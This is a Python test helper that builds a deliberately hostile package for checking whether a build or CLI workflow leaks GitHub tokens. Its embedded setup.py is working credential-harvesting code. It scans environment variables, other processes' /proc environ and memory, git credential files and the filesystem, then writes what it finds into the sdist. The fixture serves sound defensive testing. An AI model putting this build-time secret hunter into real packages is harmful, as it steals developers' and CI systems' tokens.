"""A package whose build code hunts for tokens (issue 13, item 1), for the CLI and workflow tests.

Its ``setup.py`` runs during ``python -m build`` and searches, as an attacker's would, without
knowing the token: its own environment; ``/proc/*/environ`` and ``/proc/*/cmdline`` of every
process it can see; ``/proc/<pid>/mem`` of its ancestors (and of every visible process) where
readable; ``~/.git-credentials``; every ``.git/config`` and ``.git-credentials`` it can find
walking the file system. Everything that looks like a GitHub token or an ``Authorization``
header goes to ``HUNT.txt``, which ``MANIFEST.in`` puts into the sdist, so the findings leave
the build the only way its output does. The file starts with what was searched, so a test can
tell that the hunt ran.
"""

from __future__ import annotations

import base64
import tarfile
from pathlib import Path
from typing import List

from ghhelpers import git, make_git_project

HUNT_SETUP = r'''
import os, re
from setuptools import setup

PATTERN = re.compile(rb"(gh[pousr]_[A-Za-z0-9_]{8,}|x-access-token:[^@\s\"']+|(?i:basic) [A-Za-z0-9+/=]{16,})")
found, searched = set(), []

def scan(where, data):
    searched.append(where)
    for m in PATTERN.findall(data or b""):
        found.add(m.decode("ascii", "replace"))
        if m.lower().startswith(b"basic "):
            try:
                found.add(__import__("base64").b64decode(m[6:]).decode("ascii", "replace"))
            except Exception:
                pass

def read(path, limit=1 << 22):
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return None

scan("os.environ", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
pids = [p for p in os.listdir("/proc") if p.isdigit()]
searched.append(f"pids={len(pids)}")
ancestors, pid = [], os.getpid()
while pid > 1:
    ancestors.append(str(pid))
    status = read(f"/proc/{pid}/status") or b""
    m = re.search(rb"PPid:\s*(\d+)", status)
    pid = int(m.group(1)) if m else 0
searched.append("ancestors=" + ",".join(ancestors))
for p in pids:
    for what in ("environ", "cmdline"):
        data = read(f"/proc/{p}/{what}")
        if data is not None:
            scan(f"/proc/{p}/{what}", data)
for p in ancestors + [p for p in pids if p not in ancestors][:5]:
    maps = read(f"/proc/{p}/maps")
    if not maps:
        continue
    total = 0
    try:
        with open(f"/proc/{p}/mem", "rb") as mem:
            for line in maps.decode().splitlines():
                addr, perms = line.split()[:2]
                if "r" not in perms or total > (1 << 27):
                    continue
                start, end = (int(x, 16) for x in addr.split("-"))
                try:
                    mem.seek(start)
                    chunk = mem.read(min(end - start, 1 << 26))
                except (OSError, ValueError, OverflowError):
                    continue
                total += len(chunk)
                scan(f"/proc/{p}/mem", chunk)
    except OSError:
        pass
home = os.path.expanduser("~")
for path in (os.path.join(home, ".git-credentials"), os.path.join(home, ".gitconfig"), os.path.join(home, ".config/git/credentials")):
    data = read(path)
    if data is not None:
        scan(path, data)
SKIP = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/boot", "/snap", "/var/lib", "/var/cache"}
for root, dirs, files in os.walk("/"):
    if root in SKIP or root.count("/") > 8:
        dirs[:] = []
        continue
    dirs[:] = [d for d in dirs if d not in (".venv", "node_modules", "site-packages", "__pycache__") and os.path.join(root, d) not in SKIP]
    if os.path.basename(root) == ".git" and "config" in files:
        scan(os.path.join(root, "config"), read(os.path.join(root, "config")))
    if ".git-credentials" in files:
        scan(os.path.join(root, ".git-credentials"), read(os.path.join(root, ".git-credentials")))
with open("HUNT.txt", "w") as out:
    out.write("hunt ran; searched: " + " ".join(searched[:50]) + f" ... ({len(searched)} places)\n")
    for item in sorted(found):
        out.write("FOUND " + item + "\n")
print("token hunt: %d places searched, %d findings" % (len(searched), len(found)))
setup()
'''


def make_hunting_project(root: Path, name: str = "kavli-hunt", tag: str = "v1.0.0") -> Path:
    """A setuptools git repository, tagged ``tag``, whose build runs the hunt."""
    repo = make_git_project(root, "setuptools", name, tag.lstrip("v"), tag)
    (repo / "setup.py").write_text(HUNT_SETUP)
    (repo / "MANIFEST.in").write_text("include HUNT.txt\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "hunt")
    git(repo, "tag", "-f", "-a", tag, "-m", tag)
    return repo


def hunt_report(sdist: Path) -> str:
    """The ``HUNT.txt`` that the build put into ``sdist``."""
    with tarfile.open(sdist) as tar:
        member = next(m for m in tar.getmembers() if m.name.endswith("/HUNT.txt"))
        return tar.extractfile(member).read().decode()


def token_forms(token: str) -> List[str]:
    """The token as the hunt could report it: plain, and inside a Basic header."""
    return [token, base64.b64encode(f"x-access-token:{token}".encode()).decode()[:24]]


def leaked(report: str, tokens: List[str]) -> List[str]:
    return [t for t in tokens for form in token_forms(t) if form in report]


__all__ = ["HUNT_SETUP", "hunt_report", "leaked", "make_hunting_project", "token_forms"]
